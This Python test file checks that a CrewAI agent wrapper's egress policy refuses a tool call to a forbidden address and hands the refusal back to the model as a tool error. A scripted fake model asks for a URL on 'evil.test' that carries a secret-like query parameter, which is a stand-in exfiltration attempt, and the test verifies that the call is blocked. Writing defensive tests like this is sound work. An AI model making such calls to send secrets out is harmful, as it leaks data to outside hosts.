"""A wrapped crew whose tool fetches the URL the model gives it: a URL whose name resolves
(through the test's resolver hook) to an address the egress policy forbids becomes the tool
error the model reads ("Error executing tool: tool ... could not run: address ... is not
allowed"), the crew completes, and the allowed call is answered."""

from __future__ import annotations

import httpx
from crewai import Agent, Crew, Task
from crewai.tools import BaseTool
from crewai.tools.tool_failure import ToolFailureReason

import toolpool
from toolpool.crewai import wrap
from toolpool.crewai.testing import ScriptedLLM
from toolpool.testing import Downstream, HostMap, ServiceSpec


class FetchUrl(BaseTool):
    name: str = "fetch_url"
    description: str = "Fetch a web page (the model picks the URL)."

    def _run(self, url: str) -> str:
        with httpx.Client(timeout=30.0) as client:  # the tool's own client: pooled
            r = client.get(url)
        return f"{r.status_code} {r.json()['path']}"


def test_a_refused_address_becomes_the_tools_error() -> None:
    with Downstream({"web": ServiceSpec(require_auth=False)}) as ds:
        port = ds.address("web")[1]
        names = HostMap({"ok.test": "127.0.0.1", "evil.test": "127.0.0.2"})
        egress = toolpool.Egress(deny=["127.0.0.2"], resolver=names)
        llm = ScriptedLLM(
            plan=[
                [
                    {"tool": "fetch_url", "args": {"url": f"http://ok.test:{port}/ok"}},
                    {"tool": "fetch_url", "args": {"url": f"http://evil.test:{port}/x?k=s3cret"}},
                ]
            ],
        )
        worker = Agent(
            role="reader", goal="Read pages", backstory="Careful.", llm=llm, tools=[FetchUrl()]
        )
        task = Task(description="Read the pages.", expected_output="contents", agent=worker)
        with toolpool.Pool(egress=egress, warmup=0) as pool:
            crew = wrap(Crew(agents=[worker], tasks=[task]), pool)
            output = crew.kickoff()
            denied = pool.destination(f"http://evil.test:{port}").egress_denied
    refused = [o for o in llm.observations if "egress policy" in o]
    assert refused, llm.observations
    assert set(refused) == {
        "Error executing tool: tool 'fetch_url' could not run: address 127.0.0.2 (host "
        "'evil.test') is not allowed by the egress policy (rule deny); do not retry it"
    }
    assert "200 /ok" in output.raw
    failures = output.tasks_output[0].tool_failures
    assert {(f.failure.reason, f.failure.code) for f in failures} == {
        (ToolFailureReason.EXCEPTION, "ToolDenied")
    }
    # CrewAI may retry a failing tool itself: each attempt was refused before connecting.
    assert denied == {"deny": len(refused)}
    assert ds.stats("web").requests_total == 1
